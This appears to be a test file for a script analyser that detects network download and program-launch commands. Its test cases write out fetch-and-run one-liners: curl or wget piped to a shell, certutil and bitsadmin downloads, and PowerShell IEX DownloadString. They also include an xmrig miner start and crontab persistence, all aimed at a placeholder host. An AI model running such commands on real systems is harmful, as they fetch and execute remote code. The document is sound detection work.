@@ -1,0 +1,112 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { readScript } from './fetch-command.ts';
+
+const fetched = (text: string): unknown =>
+  readScript(text).fetches.map(({ url, tool, target, piped }) => ({ url, tool, target, piped }));
+const started = (text: string): string[] => readScript(text).starts.map(({ program }) => program);
+
+describe('readScript sees what is fetched', () => {
+  it.each([
+    ['curl -fsSL http://h.example/a -o /tmp/x', 'http://h.example/a', 'curl', '/tmp/x', false],
+    ['curl -O http://h.example/a.tgz', 'http://h.example/a.tgz', 'curl', 'a.tgz', false],
+    ['curl -s http://h.example/a > /tmp/x', 'http://h.example/a', 'curl', '/tmp/x', false],
+    ['curl -s http://h.example/a.sh | bash -s x', 'http://h.example/a.sh', 'curl', undefined, true],
+    ['curl h.example:8080/a.sh|sh', 'h.example:8080/a.sh', 'curl', undefined, true],
+    ['sh -c "$(curl -fsSL http://h.example/a.sh)"', 'http://h.example/a.sh', 'curl', undefined, true],
+    ['bash <(curl -s http://h.example/a.sh)', 'http://h.example/a.sh', 'curl', undefined, true],
+    ['/usr/bin/wget -q http://h.example/p/a?b=1', 'http://h.example/p/a?b=1', 'wget', 'a', false],
+    ['wget -qO- http://h.example/a | sh', 'http://h.example/a', 'wget', undefined, true],
+    ['wget --output-document=x http://h.example/a', 'http://h.example/a', 'wget', 'x', false],
+    [
+      'certutil.exe -urlcache -split -f http://h.example/a c:\\a.exe',
+      'http://h.example/a',
+      'certutil',
+      'c:\\a.exe',
+      false,
+    ],
+    [
+      'bitsadmin /transfer j /download http://h.example/a c:\\a.exe',
+      'http://h.example/a',
+      'bitsadmin',
+      'c:\\a.exe',
+      false,
+    ],
+    [
+      'Invoke-WebRequest -Uri "http://h.example/a" -OutFile "a.exe"',
+      'http://h.example/a',
+      'invoke-webrequest',
+      'a.exe',
+      false,
+    ],
+    [
+      "(New-Object Net.WebClient).DownloadFile('http://h.example/a','a.exe')",
+      'http://h.example/a',
+      'WebClient.DownloadFile',
+      'a.exe',
+      false,
+    ],
+    [
+      "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
+      'http://h.example/a',
+      'WebClient.DownloadString',
+      undefined,
+      true,
+    ],
+    ['URL=http://h.example/a\nwget $URL -O x', 'http://h.example/a', 'wget', 'x', false],
+    ['$u = "http://h.example/a"\niwr $u -OutFile x', 'http://h.example/a', 'iwr', 'x', false],
+    ['set U=http://h.example/a\r\ncurl %U% -o x', 'http://h.example/a', 'curl', 'x', false],
+    ['curl -L \\\n  http://h.example/a \\\n  -o x', 'http://h.example/a', 'curl', 'x', false],
+  ])('%s', (text, url, tool, target, piped) => {
+    expect(fetched(text)).toEqual([{ url, tool, target, piped }]);
+  });
+
+  it('says where the command stands', () => {
+    const text = 'cd /tmp;  curl -O http://h.example/a; ls';
+    const [fetch] = readScript(text).fetches;
+    expect(text.slice(fetch?.offset, (fetch?.offset ?? 0) + (fetch?.length ?? 0))).toBe('curl -O http://h.example/a');
+  });
+
+  it.each(['curl --version', 'echo wget is missing', 'apt install curl', 'the curl of a vector field/path'])(
+    'nothing in %j',
+    (text) => expect(fetched(text)).toEqual([]),
+  );
+});
+
+describe('readScript sees what is started', () => {
+  it.each([
+    ['./xmrig -o p:1', 'xmrig'],
+    ['nohup sudo /tmp/.x/run >/dev/null 2>&1 &', 'run'],
+    ['nice -n 19 ./a', 'a'],
+    ['start /b a.exe', 'a.exe'],
+    ['Start-Process -FilePath "C:\\t\\a.exe"', 'a.exe'],
+    ['ExecStart=/opt/a --b', 'a'],
+    ['echo "*/5 * * * * /tmp/a" | crontab -', 'a'],
+    ['RUN ["./a", "-o", "p:1"]', 'a'],
+  ])('%s', (text, program) => expect(started(text)).toContain(program));
+});
+
+describe('readScript is total', () => {
+  it('takes any text', () => {
+    fc.assert(fc.property(fc.string({ maxLength: 2000 }), (text) => readScript(text).fetches.length >= 0));
+  });
+
+  it('keeps a bounded number of fetches and says that it cut', () => {
+    const script = readScript('curl -O http://h.example/a\n'.repeat(5000));
+    expect([script.fetches.length, script.cut]).toEqual([200, true]);
+  });
+
+  it('does not blow up on variables that hold each other', () => {
+    const doubling = Array.from({ length: 150 }, (_, i) => `v${i + 1}=$v${i}$v${i}$v${i}$v${i}`).join('\n');
+    const start = performance.now();
+    readScript(`v0=aaaaaaaaaaaaaaaaaaaa\n${doubling}\n${`curl ${'$v99'.repeat(900)}\n`.repeat(2000)}`);
+    expect(performance.now() - start).toBeLessThan(1500);
+  });
+
+  it.each([' ', 'a=', '$a', '* ', '"', '> ', 'a.', '"$(', '(', '\\\n'])('does not slow down on %j', (piece) => {
+    const text = `curl ${piece.repeat(200_000)}`;
+    const start = performance.now();
+    readScript(text);
+    expect(performance.now() - start).toBeLessThan(1500);
+  });
+});
